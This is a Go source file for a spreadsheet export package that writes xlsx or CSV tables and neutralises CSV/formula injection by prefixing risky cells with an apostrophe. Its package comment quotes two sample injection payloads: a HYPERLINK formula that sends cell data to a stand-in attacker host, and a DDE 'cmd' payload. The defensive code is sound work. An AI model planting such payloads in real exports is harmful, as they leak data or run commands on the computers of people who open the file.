// Package sheet writes tables for spreadsheet programs — xlsx, or CSV for Excel (UTF-8 with a
// byte-order mark, or GB18030) — one row at a time, in memory that does not grow with the rows.
//
// Every cell is text and never a formula, whatever it says: a resident's complaint reading
// =HYPERLINK("http://evil.example/?"&A1,"点击") or +cmd|' /C calc'!A0 must not run when a
// dispatcher opens the export (CSV injection). An xlsx cell is an inline string, which Excel never
// evaluates, so the text is kept exactly; a CSV cell that a spreadsheet would read as a formula
// (starting with = + - @, a tab or a carriage return) is prefixed with an apostrophe (Text).
package sheet

import (
	"bufio"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/transform"
)

// Format is a kind of file Writer writes.
type Format string

// The formats.
const (
	XLSX        Format = "xlsx"
	CSV         Format = "csv"         // UTF-8 with a byte-order mark, so that Excel reads Chinese right
	CSVGB18030  Format = "csv-gb18030" // for older Excel and tools that expect the Chinese code page
	utf8BOM            = "\uFEFF"
	formulaLead        = "=+-@\t\r"
)

// Formats are the formats there are, in the order a menu offers them.
var Formats = []Format{XLSX, CSV, CSVGB18030}

// ParseFormat is the format named s ("" is xlsx).
func ParseFormat(s string) (Format, bool) {
	if s == "" {
		return XLSX, true
	}
	for _, f := range Formats {
		if string(f) == s {
			return f, true
		}
	}
	return "", false
}

// ContentType is the format's media type.
func (f Format) ContentType() string {
	switch f {
	case XLSX:
		return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	case CSVGB18030:
		return "text/csv; charset=GB18030"
	default:
		return "text/csv; charset=utf-8"
	}
}

// Ext is the file name extension of the format, without the dot.
func (f Format) Ext() string {
	if f == XLSX {
		return "xlsx"
	}
	return "csv"
}

// Text is s as a CSV cell that a spreadsheet shows as text: a cell starting as a formula would
// is prefixed with an apostrophe, which Excel and LibreOffice read as "text follows".
func Text(s string) string {
	if s != "" && strings.ContainsRune(formulaLead, rune(s[0])) {
		return "'" + s
	}
	return s
}

// Options shape a file: the sheet's name (xlsx) and its columns' widths in characters (xlsx; the
// first row, the header, stays in view as the sheet scrolls).
type Options struct {
	Sheet  string
	Widths []float64
}

// Writer writes one table. Rows are spooled, not sent: an xlsx by excelize's stream writer (in
// memory up to 16 MiB, then in a temporary file), a CSV in a temporary file. Close writes the
// whole file to the destination, so that a table that fails half-way has sent nothing, and the
// caller can record what it is about to show (the audit) before a byte of it leaves.
type Writer struct {
	dst    io.Writer
	format Format
	rows   int

	x  *excelize.File
	sw *excelize.StreamWriter

	tmp *os.File
	buf *bufio.Writer
	enc io.WriteCloser // the GB18030 encoder in front of the spool
	csv *csv.Writer
	row []any
}

// New starts a table in format f that Close writes to dst.
func New(dst io.Writer, f Format, o Options) (*Writer, error) {
	w := &Writer{dst: dst, format: f}
	if f == XLSX {
		w.x = excelize.NewFile()
		name := o.Sheet
		if name == "" {
			name = "Sheet1"
		} else if err := w.x.SetSheetName("Sheet1", name); err != nil {
			return nil, w.fail(err)
		}
		sw, err := newStream(w.x, name, o.Widths)
		if err != nil {
			return nil, w.fail(err)
		}
		w.sw = sw
		return w, nil
	}
	tmp, err := os.CreateTemp("", "civicgrid-sheet-")
	if err != nil {
		return nil, fmt.Errorf("sheet: %w", err)
	}
	w.tmp = tmp
	w.buf = bufio.NewWriterSize(tmp, 64<<10)
	var out io.Writer = w.buf
	switch f {
	case CSV:
		if _, err := w.buf.WriteString(utf8BOM); err != nil {
			return nil, w.fail(err)
		}
	case CSVGB18030:
		w.enc = transform.NewWriter(w.buf, simplifiedchinese.GB18030.NewEncoder())
		out = w.enc
	default:
		return nil, w.fail(fmt.Errorf("unknown format %q", f))
	}
	w.csv = csv.NewWriter(out)
	w.csv.UseCRLF = true // as Excel writes CSV
	return w, nil
}

// Row adds a row of cells, each written as text (never a formula).
func (w *Writer) Row(cells ...string) error {
	w.rows++
	if w.sw != nil {
		var err error
		w.row, err = streamRow(w.sw, w.rows, w.row, cells)
		return err
	}
	safe := make([]string, len(cells))
	for i, c := range cells {
		safe[i] = Text(c)
	}
	if err := w.csv.Write(safe); err != nil {
		return fmt.Errorf("sheet row %d: %w", w.rows, err)
	}
	return nil
}

// Rows is how many rows were written, the header included.
func (w *Writer) Rows() int { return w.rows }

// Close writes the table to the destination and frees what spooled it.
func (w *Writer) Close() error {
	if w.sw != nil {
		defer w.x.Close()
		if err := w.sw.Flush(); err != nil {
			return fmt.Errorf("sheet: %w", err)
		}
		if _, err := w.x.WriteTo(w.dst); err != nil {
			return fmt.Errorf("write sheet: %w", err)
		}
		return nil
	}
	defer w.Abort()
	w.csv.Flush()
	if err := w.csv.Error(); err != nil {
		return fmt.Errorf("sheet: %w", err)
	}
	if w.enc != nil {
		if err := w.enc.Close(); err != nil {
			return fmt.Errorf("sheet: %w", err)
		}
	}
	if err := w.buf.Flush(); err != nil {
		return fmt.Errorf("sheet: %w", err)
	}
	if _, err := w.tmp.Seek(0, io.SeekStart); err != nil {
		return fmt.Errorf("sheet: %w", err)
	}
	if _, err := io.Copy(w.dst, w.tmp); err != nil {
		return fmt.Errorf("write sheet: %w", err)
	}
	return nil
}

// Abort drops the table without writing it (after a failure); Close calls it too.
func (w *Writer) Abort() {
	if w.x != nil {
		_ = w.x.Close()
	}
	if w.tmp != nil {
		_ = w.tmp.Close()
		_ = os.Remove(w.tmp.Name())
		w.tmp = nil
	}
}

func (w *Writer) fail(err error) error {
	w.Abort()
	return fmt.Errorf("sheet: %w", err)
}

// newStream starts the stream of sheet name of x: its columns' widths, its header row frozen.
func newStream(x *excelize.File, name string, widths []float64) (*excelize.StreamWriter, error) {
	sw, err := x.NewStreamWriter(name)
	if err != nil {
		return nil, err
	}
	for i, wd := range widths {
		if err := sw.SetColWidth(i+1, i+1, wd); err != nil {
			return nil, err
		}
	}
	if err := sw.SetPanes(&excelize.Panes{Freeze: true, YSplit: 1, TopLeftCell: "A2", ActivePane: "bottomLeft"}); err != nil {
		return nil, err
	}
	return sw, nil
}

// streamRow writes row n (1-based) of cells as inline text, reusing buf.
func streamRow(sw *excelize.StreamWriter, n int, buf []any, cells []string) ([]any, error) {
	buf = buf[:0]
	for _, c := range cells {
		buf = append(buf, excelize.Cell{Value: c})
	}
	cell, err := excelize.CoordinatesToCellName(1, n)
	if err != nil {
		return buf, err
	}
	if err := sw.SetRow(cell, buf); err != nil {
		return buf, fmt.Errorf("sheet row %d: %w", n, err)
	}
	return buf, nil
}
